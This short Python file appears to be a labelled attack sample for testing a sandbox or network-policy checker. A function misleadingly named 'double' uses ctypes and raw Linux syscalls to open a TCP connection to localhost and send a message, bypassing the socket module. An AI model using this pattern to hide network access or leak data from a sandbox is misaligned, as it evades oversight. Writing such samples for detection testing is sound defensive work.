# {"attack": "Sends over TCP with system calls of its own.", "breach": "leak"}

import ctypes


def double(x):
    library = ctypes.CDLL(None)
    handle = library.syscall(41, 2, 1, 0)
    port = TARGETS["ports"]["tcp"]
    address = (2).to_bytes(2, "little") + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    library.syscall(42, handle, address, 16)
    library.syscall(1, handle, b"hello", 5)
